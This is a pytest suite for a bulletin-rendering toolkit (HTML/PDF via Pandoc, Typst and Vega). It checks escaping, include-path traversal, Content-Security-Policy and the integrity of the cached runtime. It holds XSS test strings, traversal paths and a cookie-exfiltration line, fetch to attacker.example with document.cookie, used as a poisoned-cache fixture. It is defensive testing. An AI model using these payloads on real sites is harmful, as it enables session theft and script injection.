"""The bulletin's render (toolkit/bulletin: shortcodes, markdown, html, pdf, vega): real HTML
and PDF renders of a tiny bulletin, read back."""

from __future__ import annotations

import base64
import datetime as dt
import hashlib
import json
import re
import shutil
import subprocess
import tempfile
import warnings
from html.parser import HTMLParser
from pathlib import Path

import pytest
from conftest import headless_chromium

from toolkit.bulletin import vega
from toolkit.bulletin.errors import RenderError, RenderWarning
from toolkit.bulletin.html import render_html
from toolkit.bulletin.markdown import chart_block, escape_md
from toolkit.bulletin.pandoc import ASSETS, pandoc_path
from toolkit.bulletin.pdf import hangul_font_paths, render_pdf
from toolkit.bulletin.shortcodes import expand, expand_shortcodes, format_date, load_metadata
from toolkit.bulletin.text import pipe_table, table_label

FIXTURES = Path(__file__).parent / "fixtures" / "render"
ARTIFACTS = Path(__file__).parent / "artifacts"

HOSTILE = {
    "script": "<script>alert(1)</script>",
    "img": "<img src=x onerror=alert(1)>",
    "typst": "#set page(width: 1cm)",
    "math": "$x$",
    "bold": "*bold*",
    "link": "[link](javascript:alert(1))",
    "shortcode": "{{< meta totals.detained >}}",
    "backslash": "C:\\temp\\new \\\\ end\\",
}
KOREAN = "캄보디아"
QUARTERS = ["2024 Q2", "2024 Q3", "2024 Q4", "2025 Q1"]
DETAINED = [640, 812, 1005, 1234]
CHART_CAPTION = "People detained by quarter, <b>2024 Q2</b>–2025 Q1 {{< meta x >}}"

needs_poppler = pytest.mark.skipif(
    not (shutil.which("pdftotext") and shutil.which("pdffonts")), reason="poppler-utils missing"
)


# --------------------------------------------------------------------------- helpers


def _chart_spec() -> dict:
    import altair as alt
    import polars as pl

    df = pl.DataFrame({"quarter": QUARTERS, "detained": DETAINED})
    chart = (
        alt.Chart(df)
        .mark_bar(color="#1f3a5f")
        .encode(
            x=alt.X("quarter:N", title="Quarter", axis=alt.Axis(labelAngle=0)),
            y=alt.Y("detained:Q", title="People detained"),
            tooltip=["quarter:N", "detained:Q"],
        )
        .properties(width=420, height=200)
    )
    return chart.to_dict()


def _build_doc(root: Path) -> tuple[Path, Path, dict]:
    """Copy the fixture document to ``root`` and generate the chart fragment + SVG."""
    import vl_convert as vlc

    shutil.copytree(FIXTURES, root, dirs_exist_ok=True)
    build = root / "_build"
    build.mkdir(exist_ok=True)
    spec = _chart_spec()
    (build / "detentions.svg").write_text(vlc.vegalite_to_svg(spec), encoding="utf-8")
    block = chart_block(
        "chart-detentions",
        spec,
        "_build/detentions.svg",
        "Bar chart: detentions rose from 640 in 2024 Q2 to 1,234 in 2025 Q1.",
        CHART_CAPTION,
    )
    (build / "chart.md").write_text(block, encoding="utf-8")
    meta = load_metadata(root / "metadata.yaml")
    return root / "bulletin.qmd", build, meta


class _Page(HTMLParser):
    """Tags, attributes, executable scripts and visible text of an HTML page."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict]] = []
        self.scripts: list[str] = []
        self.text: list[str] = []
        self._script: list[str] | None = None
        self._skip = 0

    def handle_starttag(self, tag, attrs):
        d = dict(attrs)
        self.tags.append((tag, d))
        if tag == "script":
            self._script = []
        if tag in ("style", "noscript"):
            self._skip += 1

    def handle_endtag(self, tag):
        if tag == "script" and self._script is not None:
            self.scripts.append("".join(self._script))
            self._script = None
        if tag in ("style", "noscript"):
            self._skip -= 1

    def handle_data(self, data):
        if self._script is not None:
            self._script.append(data)
        elif not self._skip:
            self.text.append(data)


def _parse(page: str) -> _Page:
    p = _Page()
    p.feed(page)
    p.close()
    return p


def _norm(text: str) -> str:
    return re.sub(r"\s+", " ", text)


# --------------------------------------------------------------------------- fixtures


@pytest.fixture(scope="module")
def rendered(tmp_path_factory):
    """The fixture bulletin rendered twice to HTML and PDF (for the determinism check)."""
    root = tmp_path_factory.mktemp("bulletin")
    qmd, build, meta = _build_doc(root)
    out = root / "out"
    with warnings.catch_warnings(record=True) as caught:
        warnings.simplefilter("always")
        html1 = render_html(qmd, meta, out / "a" / "bulletin.html", resource_dir=build)
        pdf1 = render_pdf(qmd, meta, out / "a" / "bulletin.pdf", resource_dir=build)
        html2 = render_html(qmd, meta, out / "b" / "bulletin.html", resource_dir=build)
        pdf2 = render_pdf(qmd, meta, out / "b" / "bulletin.pdf", resource_dir=build)
    return {
        "root": root,
        "qmd": qmd,
        "build": build,
        "meta": meta,
        "html": html1,
        "pdf": pdf1,
        "html2": html2,
        "pdf2": pdf2,
        "warnings": [w for w in caught if issubclass(w.category, RenderWarning)],
    }


@pytest.fixture(scope="module")
def pdf_text(rendered) -> str:
    out = subprocess.run(
        ["pdftotext", "-enc", "UTF-8", str(rendered["pdf"]), "-"],
        capture_output=True,
        check=True,
    )
    return out.stdout.decode("utf-8")


# --------------------------------------------------------------------------- escaping


@pytest.mark.parametrize("value", [*HOSTILE.values(), KOREAN, "a & b &amp; c", "@ref ~x~ ^y^"])
def test_escape_md_round_trips_through_pandoc_as_literal_text(value):
    md = f"Value: {escape_md(value)} end."
    out = subprocess.run(
        [pandoc_path(), "-f", "markdown", "-t", "html5"],
        input=md.encode(),
        capture_output=True,
        check=True,
    ).stdout.decode()
    page = _parse(out)
    assert [t for t, _ in page.tags] == ["p"], out  # nothing but one paragraph of text
    assert _norm("".join(page.text)).strip() == f"Value: {value} end."


def test_escape_md_folds_lines_so_data_cannot_open_blocks():
    escaped = escape_md("a\n\n# heading\n    code\r\n| x |")
    assert "\n" not in escaped
    assert escaped == r"a \# heading code \| x \|"


# --------------------------------------------------------------------------- chart blocks


def test_chart_block_is_a_quarto_figure_with_one_raw_block_per_format_and_escaped_text():
    spec = _chart_spec()
    md = chart_block("c1", spec, "charts/c1.svg", 'Alt "text" <i>', "Cap {{< meta k >}} `x`")
    assert md.count("{=html}") == 1 and md.count("{=typst}") == 1
    # Quarto's cross-reference figure: a #fig- div whose last paragraph is the caption
    lines = md.rstrip("\n").split("\n")
    assert lines[0] == "::: {#fig-c1}" and lines[-1] == ":::" and lines[-3] == ""
    html_part = md.split("{=html}\n", 1)[1].split("\n```", 1)[0]
    typst_part = md.split("{=typst}\n", 1)[1].split("\n```", 1)[0]
    # HTML: div[role=img][aria-label] + noscript fallback
    page = _parse(html_part)
    tags = {t: a for t, a in page.tags}
    assert tags["div"]["role"] == "img" and tags["div"]["aria-label"] == 'Alt "text" <i>'
    assert json.loads(tags["div"]["data-vega-spec"])["encoding"] == spec["encoding"]
    assert "$schema" not in tags["div"]["data-vega-spec"]
    assert tags["img"]["src"] == "charts/c1.svg" and "noscript" in tags
    assert "<i>" not in html_part and "{{<" not in md and "`x`" not in md
    # the caption is escaped markdown: Pandoc (with the toolkit's filter) makes it the literal
    # text of the figure's numbered figcaption
    out = subprocess.run(
        [pandoc_path(), "-f", "markdown", "-t", "html5",
         f"--lua-filter={ASSETS / 'bulletin.lua'}"],
        input=md.encode(), capture_output=True, check=True,
    ).stdout.decode()
    figure = _parse(out)
    assert [t for t, a in figure.tags if a.get("id") == "fig-c1"] == ["figure"]
    assert _norm("".join(figure.text)).strip() == "Figure 1. Cap {{< meta k >}} `x`"
    # Typst: the SVG image with its alt text; the figure and its caption come from the div
    assert typst_part.startswith('#image("charts/c1.svg"')
    assert 'alt: "Alt \\"text\\" \\u{3c}i\\u{3e}"' in typst_part
    assert "#figure" not in md


def test_chart_block_accepts_svg_text_and_rejects_bad_input():
    svg = '<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"/>'
    md = chart_block("c2", {"mark": "bar"}, svg, "alt", "cap")
    assert 'src="data:image/svg+xml;base64,' in md and "image(bytes(" in md
    with pytest.raises(RenderError):
        chart_block("1bad id", {}, "x.svg", "alt", "cap")
    with pytest.raises(RenderError):
        chart_block("c3", {}, "../x.svg", "alt", "cap")
    with pytest.raises(RenderError):
        chart_block("c3", {}, "/abs/x.svg", "alt", "cap")
    with pytest.raises(RenderError):
        chart_block("c3", {"v": float("nan")}, "x.svg", "alt", "cap")
    with pytest.raises(RenderError):
        chart_block("c3", {}, "x.svg", "  ", "cap")


# --------------------------------------------------------------------------- shortcodes


def _doc(tmp_path: Path, body: str, front: str = 'title: "T"\n') -> Path:
    qmd = tmp_path / "doc.qmd"
    qmd.write_text(f"---\n{front}---\n\n{body}\n", encoding="utf-8")
    return qmd


def test_meta_expansion_dotted_keys_escaping_and_no_re_expansion(tmp_path):
    qmd = _doc(
        tmp_path,
        "A {{< meta a.b.c >}} B {{< meta list.1 >}} C {{< meta evil >}} D {{{< meta a >}}}",
        front='title: "Bulletin {{< meta a.b.c >}}"\n',
    )
    meta = {"a": {"b": {"c": 42}}, "list": ["x", "y*"], "evil": "{{< meta a.b.c >}}"}
    md = expand_shortcodes(qmd, meta)
    assert "A 42 B y\\* C \\{\\{\\< meta a\\.b\\.c \\>\\}\\} D \\{\\{\\< meta a \\>\\}\\}" in md
    assert "title: Bulletin 42" in md


def test_unknown_meta_key_raises_with_location(tmp_path):
    qmd = _doc(tmp_path, "line one\n\nvalue {{< meta totals.missing >}}")
    with pytest.raises(RenderError, match=r"doc\.qmd:7: unknown metadata key 'totals\.missing'"):
        expand_shortcodes(qmd, {"totals": {"detained": 1}})


@pytest.mark.parametrize("value", [None, [1, 2], {"k": 1}])
def test_non_scalar_meta_value_raises(tmp_path, value):
    qmd = _doc(tmp_path, "v {{< meta k >}}")
    with pytest.raises(RenderError, match="metadata key 'k'"):
        expand_shortcodes(qmd, {"k": value})


def test_includes_nest_relative_to_document_and_skip_code_fences(tmp_path):
    (tmp_path / "frag").mkdir()
    (tmp_path / "frag" / "a.md").write_text(
        "from a {{< meta n >}}\n\n{{< include frag/b.md >}}\n", encoding="utf-8"
    )
    (tmp_path / "frag" / "b.md").write_text("from b\n", encoding="utf-8")
    qmd = _doc(tmp_path, "{{< include frag/a.md >}}\n\n```\n{{< include nowhere.md >}}\n```")
    md = expand_shortcodes(qmd, {"n": 7}, resource_dir=tmp_path / "frag")
    assert "from a 7" in md and "from b" in md
    assert "{{< include nowhere.md >}}" in md  # code blocks are left verbatim


@pytest.mark.parametrize(
    "path", ["../outside.md", "frag/../../outside.md", "/etc/hostname", "~/x.md", "frag\\a.md"]
)
def test_include_path_traversal_is_refused(tmp_path, path):
    doc_dir = tmp_path / "doc"
    (doc_dir / "frag").mkdir(parents=True)
    (tmp_path / "outside.md").write_text("secret\n", encoding="utf-8")
    qmd = _doc(doc_dir, f"{{{{< include {path} >}}}}")
    with pytest.raises(RenderError, match="include"):
        expand_shortcodes(qmd, {}, resource_dir=doc_dir / "frag")


def test_include_through_symlink_outside_allowed_dirs_is_refused(tmp_path):
    doc_dir = tmp_path / "doc"
    doc_dir.mkdir()
    (tmp_path / "secret.md").write_text("secret\n", encoding="utf-8")
    (doc_dir / "link.md").symlink_to(tmp_path / "secret.md")
    qmd = _doc(doc_dir, "{{< include link.md >}}")
    with pytest.raises(RenderError, match="outside"):
        expand_shortcodes(qmd, {}, resource_dir=doc_dir)


def test_include_errors_inline_missing_cycle_and_unknown_shortcode(tmp_path):
    (tmp_path / "loop.md").write_text("{{< include loop.md >}}\n", encoding="utf-8")
    cases = {
        "text {{< include loop.md >}}": "alone on its own line",
        "{{< include missing.md >}}": "does not exist",
        "{{< include loop.md >}}": "cycle",
        "{{< env HOME >}}": "unsupported shortcode 'env'",
    }
    for body, message in cases.items():
        with pytest.raises(RenderError, match=message):
            expand_shortcodes(_doc(tmp_path, body), {})


# --------------------------------------------------------------------------- date fields


@pytest.mark.parametrize("date", ['"{{< meta release >}}"', '"Released 15 April 2025"',
                                  '"15/04/2025"'])
def test_a_date_field_that_is_not_a_literal_date_is_refused(tmp_path, date):
    # Quarto parses `date` before shortcodes run and shows "Invalid Date": refuse it here too
    qmd = _doc(tmp_path, "text", front=f'title: "T"\ndate: {date}\n')
    with pytest.raises(RenderError, match="Quarto reads it as a date"):
        expand_shortcodes(qmd, {"release": "2025-04-15"})


def test_the_metadata_date_is_the_document_date_shown_with_date_format(tmp_path):
    front = 'title: "T"\ndate-format: "D MMMM YYYY"\npublished-title: Released\n'
    qmd = _doc(tmp_path, "Body.", front=front)
    _, fields = expand(qmd, {"date": "2025-04-15", "n": {"k": 1}}, tmp_path)
    assert fields["date"] == "15 April 2025" and fields["date-meta"] == "2025-04-15"
    assert "n" not in fields  # mappings stay metadata for {{< meta >}}
    page = render_html(qmd, {"date": "2025-04-15"}, tmp_path / "out.html",
                       resource_dir=tmp_path).read_text(encoding="utf-8")
    assert '<p class="date"><span class="date-label">Released</span> 15 April 2025</p>' in page
    assert '<meta name="dcterms.date" content="2025-04-15">' in page


def test_a_field_in_both_the_front_matter_and_the_metadata_is_refused(tmp_path):
    qmd = _doc(tmp_path, "Body.", front='title: "T"\nsubtitle: "A"\n')
    with pytest.raises(RenderError, match="'subtitle' is set both"):
        expand_shortcodes(qmd, {"subtitle": "B"})
    assert 'subtitle: "A"' in expand_shortcodes(qmd, {"subtitle": "A"})  # the same value is fine


def test_format_date_writes_day_js_patterns():
    day = dt.date(2026, 11, 28)
    assert format_date(day, "D MMMM YYYY") == "28 November 2026"
    assert format_date(day, "iso") == "2026-11-28"
    assert format_date(day, "dddd, D MMM YY") == "Saturday, 28 Nov 26"
    assert format_date(day, "[Released] DD/MM/YYYY") == "Released 28/11/2026"
    with pytest.raises(RenderError, match="locale"):
        format_date(day, "long")


# --------------------------------------------------------------------------- table captions


def test_pipe_table_captions_carry_a_quarto_cross_reference_label():
    md = pipe_table(["Measure", "People"], [["Detained", "1,234"]], "lr",
                    "People detained by nationality, 2025 [p]")
    caption = md.rstrip("\n").split("\n")[-1]
    assert caption == (r": People detained by nationality\, 2025 \[p\] "
                       "{#tbl-people-detained-by-nationality-2025-p}")
    out = subprocess.run([pandoc_path(), "-f", "markdown", "-t", "html5"], input=md.encode(),
                         capture_output=True, check=True).stdout.decode()
    assert '<table id="tbl-people-detained-by-nationality-2025-p">' in out
    assert "{#" not in out and "nationality, 2025 [p]</caption>" in out
    named = pipe_table(["a"], [["1"]], "l", "Any caption", label="tbl-headline")
    assert named.rstrip().endswith(": Any caption {#tbl-headline}")
    with pytest.raises(RenderError, match="table label"):
        pipe_table(["a"], [["1"]], "l", "Any caption", label="fig-x")


def test_default_table_labels_are_short_and_differ_for_different_captions():
    long_a = "Data behind the chart: People detained and repatriated by quarter, 2024 to 2025"
    long_b = "Data behind the chart: People detained and repatriated by quarter, 2023 to 2025"
    a, b = table_label(long_a), table_label(long_b)
    assert a != b and len(a) <= 60 and len(b) <= 60
    assert a.startswith("tbl-data-behind-the-chart-people-detained")
    assert table_label(long_a) == a  # stable
    assert re.fullmatch(r"tbl-[0-9a-f]{6}", table_label("캄보디아"))


def test_pagebreak_becomes_one_raw_block_per_format(tmp_path):
    md = expand_shortcodes(_doc(tmp_path, "a\n\n{{< pagebreak >}}\n\nb"), {})
    assert '```{=html}\n<div class="pagebreak"' in md
    assert "```{=typst}\n#pagebreak(weak: true)\n```" in md


def test_missing_chart_svg_is_an_error_in_both_formats(tmp_path):
    block = chart_block("c", {"mark": "bar"}, "charts/missing.svg", "alt", "cap")
    (tmp_path / "chart.md").write_text(block, encoding="utf-8")
    qmd = _doc(tmp_path, "{{< include chart.md >}}")
    with pytest.raises(RenderError, match="not embedded"), warnings.catch_warnings():
        warnings.simplefilter("ignore", RenderWarning)
        render_html(qmd, {}, tmp_path / "out.html", resource_dir=tmp_path)
    with pytest.raises(RenderError, match="typst could not compile"):
        render_pdf(qmd, {}, tmp_path / "out.pdf", resource_dir=tmp_path)
    assert not (tmp_path / "out.html").exists() and not (tmp_path / "out.pdf").exists()


def test_raw_script_in_a_fragment_is_refused(tmp_path):
    qmd = _doc(tmp_path, '```{=html}\n<script>alert("x")</script>\n```')
    with pytest.raises(RenderError, match="scripts"):
        render_html(qmd, {}, tmp_path / "out.html", resource_dir=tmp_path)


# --------------------------------------------------------------------------- HTML


def test_html_is_self_contained_and_hostile_values_are_text(rendered):
    page = rendered["html"].read_text(encoding="utf-8")
    doc = _parse(page)
    # our two scripts only: the Vega runtime (exactly once) and the chart initialiser
    assert len(doc.scripts) == 2
    assert sum("window.vegaEmbed=" in s for s in doc.scripts) == 1
    assert page.count("window.vegaEmbed=") == 1
    for tag, attrs in doc.tags:
        assert not any(k.startswith("on") for k in attrs), (tag, attrs)
        if tag == "script":
            assert "src" not in attrs
        for key in ("src", "href"):
            value = (attrs.get(key) or "").strip().lower()
            assert not value.startswith(("http:", "https:", "//")), (tag, attrs)
        if tag == "img":
            assert attrs["src"].startswith("data:image/svg+xml")
    csp = next(
        a["content"] for t, a in doc.tags if a.get("http-equiv") == "Content-Security-Policy"
    )
    assert "default-src 'none'" in csp and "unsafe-eval" not in csp
    # every hostile value appears as literal text, in the table of the fixture
    text = _norm("".join(doc.text))
    for value in HOSTILE.values():
        assert value in text
    assert CHART_CAPTION in text and KOREAN in text
    assert "In 2025 Q1, 1234 people were reported detained" in text
    assert "Literal shortcode syntax: {{< meta totals.detained >}}." in text
    # structure: title, TOC, callouts, wrapped tables, chart div
    assert "<title>Quarterly Bulletin, 2025 Q1</title>" in page
    assert any(t == "nav" and a.get("id") == "TOC" for t, a in doc.tags)
    assert sum(a.get("class") == "callout callout-note" for _, a in doc.tags) == 1
    assert sum(a.get("class") == "table-wrap" for _, a in doc.tags) == 2
    assert any(a.get("id") == "chart-detentions" and a.get("role") == "img" for _, a in doc.tags)


def test_html_and_pdf_renders_are_byte_identical(rendered):
    assert rendered["html"].read_bytes() == rendered["html2"].read_bytes()
    assert rendered["pdf"].read_bytes() == rendered["pdf2"].read_bytes()


# --------------------------------------------------------------------------- PDF


@needs_poppler
def test_pdf_text_shows_values_korean_and_literal_hostile_strings(rendered, pdf_text):
    text = _norm(pdf_text)
    assert "Quarterly Bulletin, 2025 Q1" in text
    assert "In 2025 Q1, 1234 people were reported detained and 987 were repatriated" in text
    assert KOREAN in text
    for key in ("script", "img", "typst", "math", "bold", "shortcode"):
        assert HOSTILE[key] in text, key
    assert "[link](javascript:alert(1))" in text.replace("( ", "(")
    assert "Page 1 of 2" in text or "Page 1 of 3" in text
    assert "Figure 1." in text and "Table 1." in text
    # "#set page(width: 1cm)" stayed text: the pages are still A4
    info = subprocess.run(["pdfinfo", str(rendered["pdf"])], capture_output=True, check=True)
    assert re.search(rb"Page size:\s+595\.\d+ x 841\.\d+ pts \(A4\)", info.stdout)
    assert b"CreationDate:    Tue Apr 15 00:00:00 2025 UTC" in info.stdout


@needs_poppler
def test_pdf_embeds_every_font_including_a_hangul_font(rendered):
    out = subprocess.run(["pdffonts", str(rendered["pdf"])], capture_output=True, check=True)
    rows = out.stdout.decode().splitlines()[2:]
    assert rows, "no fonts listed"
    for row in rows:
        # columns: name type encoding emb sub uni object-id gen (name/type may hold spaces)
        emb = row.split()[-5]
        assert emb == "yes", row
    if hangul_font_paths():
        assert any("CJK" in row for row in rows), rows
    assert [str(w.message) for w in rendered["warnings"]] == []  # no font or pandoc notes


@needs_poppler
def test_pdf_with_korean_and_no_hangul_font_is_refused_saying_what_to_install(rendered, tmp_path):
    out = tmp_path / "nofont.pdf"
    with pytest.raises(RenderError, match="no Hangul font.*pylopdf-fonts-ko.*fonts-noto-cjk"):
        render_pdf(rendered["qmd"], rendered["meta"], out, resource_dir=rendered["build"],
                   system_fonts=False, packaged_fonts=False)
    assert not out.exists()  # never boxes in a published PDF


@needs_poppler
def test_without_system_fonts_hangul_comes_from_the_font_installed_with_the_toolkit(
        rendered, tmp_path):
    from toolkit.bulletin.fonts import packaged_font_dirs

    assert packaged_font_dirs(), "pylopdf-fonts-ko is a dependency of the toolkit"
    out = tmp_path / "packaged.pdf"
    render_pdf(rendered["qmd"], rendered["meta"], out, resource_dir=rendered["build"],
               system_fonts=False)
    rows = subprocess.run(["pdffonts", str(out)], capture_output=True,
                          check=True).stdout.decode().splitlines()[2:]
    assert rows and all(row.split()[-5] == "yes" for row in rows), rows
    assert any(re.search(r"\+Noto(Sans|Serif)KR-", row) for row in rows), rows
    text = subprocess.run(["pdftotext", str(out), "-"], capture_output=True, check=True).stdout
    assert KOREAN.encode("utf-8") in b" ".join(text.split())


def test_a_document_without_korean_renders_without_a_hangul_font_with_a_warning(tmp_path):
    qmd = tmp_path / "latin.qmd"
    qmd.write_text("---\ntitle: Latin only\n---\n\n1234 people were reported detained.\n",
                   encoding="utf-8")
    out = tmp_path / "latin.pdf"
    with pytest.warns(RenderWarning, match="no Hangul-capable font"):
        render_pdf(qmd, {}, out, resource_dir=tmp_path, system_fonts=False,
                   packaged_fonts=False)
    assert out.read_bytes().startswith(b"%PDF")


@needs_poppler
def test_a_long_unbroken_value_wraps_inside_the_pdf_page(tmp_path):
    """A 3,000-character value without a space (a name typed without spaces, a long address)
    breaks across lines instead of running off the page, and every character is kept."""
    long, cell = "Q" * 3000, "Q" * 400
    qmd = _doc(tmp_path, f"The source is {escape_md(long)}; the end.\n\n"
                         f"| Source | People |\n|---|---:|\n| {escape_md(cell)} | 7 |\n")
    out = tmp_path / "long.pdf"
    render_pdf(qmd, {}, out, resource_dir=tmp_path)
    boxes = subprocess.run(["pdftotext", "-bbox", str(out), "-"], capture_output=True,
                           text=True, check=True).stdout
    pages = re.findall(r'<page width="([\d.]+)" height="[\d.]+">(.*?)</page>', boxes, re.S)
    words = [(float(page[0]), float(x0), float(x1), word) for page in pages
             for x0, x1, word in re.findall(
                 r'<word xMin="([\d.]+)" yMin="[\d.]+" xMax="([\d.]+)" yMax="[\d.]+">(.*?)'
                 r'</word>', page[1])]
    assert words and all(0 <= x0 and x1 <= width for width, x0, x1, _ in words)
    text = subprocess.run(["pdftotext", str(out), "-"], capture_output=True, text=True,
                          check=True).stdout
    assert re.sub(r"[^Q]", "", text) == long + cell


def test_pdf_links_are_absolute_from_the_link_base_and_html_links_stay_relative(tmp_path):
    from toolkit.bulletin.pdf import PDF_LINK_BASE

    qmd = _doc(tmp_path, "# Top {#top}\n\n[the data](data/detentions.csv), [above](#top) and "
                         "[elsewhere](https://example.org/x).\n")
    base = "https://stats.example/open-data/releases/2026-02-28/"
    pdf = render_pdf(qmd, {PDF_LINK_BASE: base}, tmp_path / "links.pdf", resource_dir=tmp_path)
    targets = set(re.findall(rb"/URI\s*\(([^)]*)\)", pdf.read_bytes()))
    assert targets == {(base + "data/detentions.csv").encode(), b"https://example.org/x"}
    page = render_html(qmd, {PDF_LINK_BASE: base}, tmp_path / "links.html",
                       resource_dir=tmp_path).read_text(encoding="utf-8")
    assert 'href="data/detentions.csv"' in page and base not in page


# --------------------------------------------------------------------------- browser


@pytest.mark.slow  # a browser
@pytest.mark.browser
@pytest.mark.skipif(not Path("/usr/bin/chromium").exists(), reason="Debian chromium not installed")
def test_chart_draws_in_headless_chromium_without_errors(rendered):
    from selenium.webdriver.common.action_chains import ActionChains
    from selenium.webdriver.common.by import By
    from selenium.webdriver.support.ui import WebDriverWait

    profile = tempfile.mkdtemp(prefix="chromium-profile-")
    driver = headless_chromium(Path(profile), "1100,2200",
                               {"browser": "ALL", "performance": "ALL"})
    try:
        driver.get(rendered["html"].resolve().as_uri())
        chart = driver.find_element(By.ID, "chart-detentions")
        WebDriverWait(driver, 15).until(lambda d: chart.get_attribute("data-chart-state"))
        assert chart.get_attribute("data-chart-state") == "drawn"
        bars = chart.find_elements(By.CSS_SELECTOR, "svg g.mark-rect path")
        assert len(bars) == len(DETAINED)
        heights = [b.size["height"] for b in bars]
        assert heights == sorted(heights) and heights[0] > 0  # data drives the marks
        # tooltip on hover shows the datum
        ActionChains(driver).move_to_element(bars[-1]).perform()
        WebDriverWait(driver, 5).until(
            lambda d: (
                "1234"
                in d.execute_script(
                    "var t=document.getElementById('vg-tooltip-element');"
                    "return t && t.classList.contains('visible') ? t.textContent : ''"
                )
            )
        )
        ARTIFACTS.mkdir(exist_ok=True)
        assert driver.save_screenshot(str(ARTIFACTS / "render_bulletin.png"))
        severe = [e for e in driver.get_log("browser") if e["level"] == "SEVERE"]
        assert not severe, severe
        requested = []
        for entry in driver.get_log("performance"):
            msg = json.loads(entry["message"])["message"]
            if msg["method"] == "Network.requestWillBeSent":
                requested.append(msg["params"]["request"]["url"])
        assert not [u for u in requested if u.startswith(("http:", "https:"))], requested
        # the hostile <img onerror> never became an element; no extra script ran
        assert driver.execute_script("return document.querySelectorAll('img[onerror]').length") == 0
        assert driver.execute_script("return document.scripts.length") == 2
    finally:
        driver.quit()
        shutil.rmtree(profile, ignore_errors=True)


def test_assets_exist_and_are_offline():
    for name in (
        "bulletin.css",
        "bulletin.lua",
        "bulletin.html.jinja",
        "bulletin-charts.js",
        "bulletin-typst.template",
    ):
        text = (ASSETS / name).read_text(encoding="utf-8")
        assert not re.search(r"(url\(|@import|src=)\s*['\"]?(https?:)?//", text), name


# --------------------------------------------------------------------------- Vega runtime cache


FAKE_BUNDLE = "window.vegaEmbed = function () {}; /* a stand-in runtime, 한 */"


@pytest.fixture
def bundle_cache(tmp_path, monkeypatch):
    """An empty cache folder, a fake ``javascript_bundle`` that counts its calls, and the fake's
    hash pinned for the installed vl-convert."""
    import vl_convert

    calls: list[int] = []

    def fake_bundle() -> str:
        calls.append(1)
        return FAKE_BUNDLE

    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "cache"))
    monkeypatch.setattr(vl_convert, "javascript_bundle", fake_bundle)
    monkeypatch.setattr(vega, "PINNED_SHA256", {
        vega.installed_version(): hashlib.sha256(FAKE_BUNDLE.encode("utf-8")).hexdigest()})
    vega.runtime.cache_clear()
    yield calls
    vega.runtime.cache_clear()


def test_the_vega_runtime_is_cached_on_disk_per_vl_convert_version(bundle_cache, tmp_path):
    import vl_convert

    path = vega.cache_path()
    assert path.parent == tmp_path / "cache" / "scamstats-toolkit"
    assert vl_convert.__version__ in path.name and vl_convert.get_vega_version() in path.name
    bundle = vega.runtime()
    assert bundle_cache == [1] and path.read_bytes() == bundle.encode("utf-8")
    assert sorted(p.name for p in path.parent.iterdir()) == [path.name]  # no temporary left
    vega.runtime.cache_clear()
    assert vega.runtime() == bundle
    assert bundle_cache == [1]  # read back, not made again


def test_a_poisoned_cached_runtime_is_never_inlined(bundle_cache):
    """A cache file changed by someone else, even one that carries its own matching checksum,
    is not the pinned bundle: it is made again and replaced."""
    bundle = vega.runtime()
    path = vega.cache_path()
    evil = "fetch('https://attacker.example/?' + document.cookie);"
    path.write_text(f"// sha256={hashlib.sha256(evil.encode()).hexdigest()}\n{evil}",
                    encoding="utf-8")
    vega.runtime.cache_clear()
    assert vega.runtime() == bundle and "attacker" not in vega.runtime()
    assert bundle_cache == [1, 1]
    assert path.read_bytes() == bundle.encode("utf-8")


def test_a_vl_convert_without_a_pinned_hash_never_reads_the_cache(bundle_cache, monkeypatch):
    monkeypatch.setattr(vega, "PINNED_SHA256", {})
    assert vega.cache_path() is None
    assert vega.runtime() == FAKE_BUNDLE
    vega.runtime.cache_clear()
    assert vega.runtime() == FAKE_BUNDLE
    assert bundle_cache == [1, 1]  # made each time, never cached


@pytest.mark.slow
def test_the_pinned_hash_is_the_installed_vl_convert_bundle():
    import vl_convert

    actual = hashlib.sha256(vl_convert.javascript_bundle().encode("utf-8")).hexdigest()
    assert vega.PINNED_SHA256.get(vega.installed_version()) == actual, (
        f"pin {vega.installed_version()!r}: {actual!r} in toolkit/bulletin/vega.py")


def test_an_unusable_cache_folder_still_gives_the_runtime(bundle_cache, tmp_path, monkeypatch):
    blocker = tmp_path / "not-a-folder"
    blocker.write_text("x", encoding="utf-8")
    monkeypatch.setenv("XDG_CACHE_HOME", str(blocker))
    assert "vegaEmbed" in vega.runtime()
    assert bundle_cache == [1]
    assert blocker.read_text(encoding="utf-8") == "x"


PINNED = dict(vega.PINNED_SHA256)


@pytest.mark.slow
def test_prefetch_makes_the_runtime_in_another_process(bundle_cache, monkeypatch):
    monkeypatch.setattr(vega, "PINNED_SHA256", PINNED)  # the other process makes the real one
    pending = vega.prefetch_runtime()
    assert pending is not None
    bundle = vega.runtime()  # waits for the process, then uses what it made
    assert bundle_cache == []  # the fake in this process was never called
    assert pending.done() and vega.prefetch_runtime() is None  # nothing left to make
    assert len(bundle) > 100_000 and "vegaEmbed" in bundle
    assert vega.read_cached(vega.cache_path()) == bundle


def _csp_hash(script: str) -> str:
    return "'sha256-" + base64.b64encode(hashlib.sha256(script.encode()).digest()).decode() + "'"


def test_the_csp_allows_exactly_the_runtime_and_the_chart_script(rendered):
    page = rendered["html"].read_text(encoding="utf-8")
    doc = _parse(page)
    csp = next(
        a["content"] for t, a in doc.tags if a.get("http-equiv") == "Content-Security-Policy"
    )
    script_src = next(d for d in csp.split("; ") if d.startswith("script-src "))
    assert script_src.split()[1:] == [_csp_hash(s) for s in doc.scripts]
    assert doc.scripts == [vega.runtime(), vega.chart_script()]
    assert page.count(f"<script>{vega.runtime()}</script>") == 1


def test_a_page_without_charts_allows_no_script(tmp_path):
    qmd = _doc(tmp_path, "No chart here, only text.")
    page = render_html(qmd, {}, tmp_path / "out.html", resource_dir=tmp_path).read_text(
        encoding="utf-8")
    doc = _parse(page)
    csp = next(
        a["content"] for t, a in doc.tags if a.get("http-equiv") == "Content-Security-Policy"
    )
    assert doc.scripts == [] and "script-src 'none'" in csp


def test_template_syntax_in_the_document_stays_text(tmp_path):
    body = "Literal $bt-split$, $body$ and {{ csp }} {% if x %}."
    qmd = _doc(tmp_path, escape_md(body), front=f"title: '{escape_md('T $title$ {{ title }}')}'\n")
    page = render_html(qmd, {}, tmp_path / "out.html", resource_dir=tmp_path).read_text(
        encoding="utf-8")
    doc = _parse(page)
    assert body in _norm("".join(doc.text))
    assert "<title>T $title$ {{ title }}</title>" in page
